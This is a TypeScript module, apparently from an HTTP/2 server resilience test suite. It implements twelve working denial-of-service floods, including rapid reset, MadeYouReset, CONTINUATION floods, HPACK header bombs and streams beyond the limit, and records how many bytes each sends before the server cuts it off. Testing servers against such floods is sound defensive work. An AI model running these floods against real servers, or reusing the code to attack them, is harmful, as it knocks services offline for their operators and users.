import type { Socket } from 'node:net';
import {
  continuation,
  data,
  FLAG,
  FRAME,
  type Frame,
  frame,
  framesOf,
  headerBlock,
  headers,
  opening,
  ping,
  priority,
  remembered,
  requestLines,
  reset,
  settings,
  settingsAck,
  windowUpdate,
} from './frames.ts';

/** What a client can do to a server that speaks HTTP/2, at little cost to itself. */
export const FLOODS = [
  'rapid-reset',
  'reset-without-code',
  'made-you-reset',
  'continuations',
  'settings',
  'pings',
  'priorities',
  'window-updates',
  'unknown-frames',
  'empty-data',
  'header-bombs',
  'streams-beyond-the-limit',
] as const;

export type FloodKind = (typeof FLOODS)[number];

const CANCEL = 8;

/** Stream numbers of a client, one after the other. */
const numbers = (): (() => number) => {
  let stream = -1;
  return () => {
    stream += 2;
    return stream;
  };
};

const often = (count: number, make: () => Buffer): Buffer => Buffer.concat(Array.from({ length: count }, make));

/** What is said once after the opening, and what is said again and again. */
interface Speech {
  readonly first: Buffer;
  readonly again: () => Buffer;
}

const NOTHING = Buffer.alloc(0);

const speechOf = (kind: FloodKind): Speech => {
  const next = numbers();
  const request = headerBlock(requestLines());
  const resetting = (code: number): Buffer => {
    const stream = next();
    return Buffer.concat([headers(stream, request), reset(stream, code)]);
  };
  switch (kind) {
    case 'rapid-reset':
      return { first: NOTHING, again: () => often(50, () => resetting(CANCEL)) };
    case 'reset-without-code':
      return { first: NOTHING, again: () => often(50, () => resetting(0)) };
    case 'made-you-reset':
      // A window of no bytes is an error, for which the server resets the stream itself.
      return {
        first: NOTHING,
        again: () =>
          often(50, () => {
            const stream = next();
            return Buffer.concat([headers(stream, request), windowUpdate(stream, 0)]);
          }),
      };
    case 'continuations': {
      const stream = next();
      const line = headerBlock([['x', 'y']]);
      return {
        first: headers(stream, request, FLAG.END_STREAM),
        again: () => often(50, () => continuation(stream, line, false)),
      };
    }
    case 'settings':
      return { first: NOTHING, again: () => often(50, () => settings([3, 100])) };
    case 'pings':
      return { first: NOTHING, again: () => often(50, ping) };
    case 'priorities':
      return { first: NOTHING, again: () => often(2_000, () => priority(next(), 0)) };
    case 'window-updates':
      return { first: NOTHING, again: () => often(2_000, () => windowUpdate(0, 1)) };
    case 'unknown-frames':
      return { first: NOTHING, again: () => often(2_000, () => frame(0xbb, 0, 0, Buffer.alloc(32))) };
    case 'empty-data': {
      const stream = next();
      const post = headers(stream, headerBlock(requestLines('/', 'POST')), FLAG.END_HEADERS);
      return { first: post, again: () => often(500, () => data(stream, NOTHING)) };
    }
    case 'header-bombs': {
      // One long line that is remembered, then named as often as a frame holds.
      const line: readonly [string, string] = ['x-long', 'y'.repeat(3_900)];
      const learn = Buffer.concat([headerBlock([line], true), request]);
      const bomb = Buffer.concat([request, often(12_000, () => remembered(62))]);
      return { first: headers(next(), learn), again: () => headers(next(), bomb) };
    }
    case 'streams-beyond-the-limit':
      return { first: NOTHING, again: () => often(50, () => headers(next(), headerBlock(requestLines('/slow')))) };
  }
};

/** What became of an attacker. */
export interface Flooded {
  /** Bytes it got rid of until it was cut off. */
  readonly bytes: number;
  /** The error code of the server's GOAWAY, when it had one to say and was heard. */
  readonly goaway: number | undefined;
}

/**
 * Floods a server over a socket that is connecting, encrypted or not; settles once it is cut off, or gives up when it has
 * sent `mostBytes`.
 */
export const flood = (socket: Socket, kind: FloodKind, mostBytes: number): Promise<Flooded> =>
  new Promise((resolve) => {
    const { first, again } = speechOf(kind);
    let bytes = 0;
    let goaway: number | undefined;
    let rest = NOTHING;
    let over = false;
    const finish = (): void => {
      over = true;
      socket.destroy();
      resolve({ bytes, goaway });
    };
    const hear = ({ type, flags, payload }: Frame): void => {
      if (type === FRAME.GOAWAY) goaway = payload.readUInt32BE(4);
      if (type === FRAME.SETTINGS && (flags & FLAG.ACK) === 0) say(settingsAck());
    };
    const say = (words: Buffer): void => {
      if (over || !socket.writable) return;
      bytes += words.length;
      socket.write(words);
    };
    const goOn = (): void => {
      if (over) return;
      if (bytes >= mostBytes) {
        finish();
        return;
      }
      say(again());
      // As fast as the server takes it, and not so fast that nobody else has a turn in between.
      if (socket.writableNeedDrain) socket.once('drain', () => setImmediate(goOn));
      else setImmediate(goOn);
    };
    socket.on('data', (chunk: Buffer) => {
      const received = framesOf(Buffer.concat([rest, chunk]));
      rest = Buffer.from(received.rest);
      for (const heard of received.frames) hear(heard);
    });
    socket.once('close', finish);
    socket.once('encrypted' in socket ? 'secureConnect' : 'connect', () => {
      say(Buffer.concat([opening(), first]));
      goOn();
    });
  });
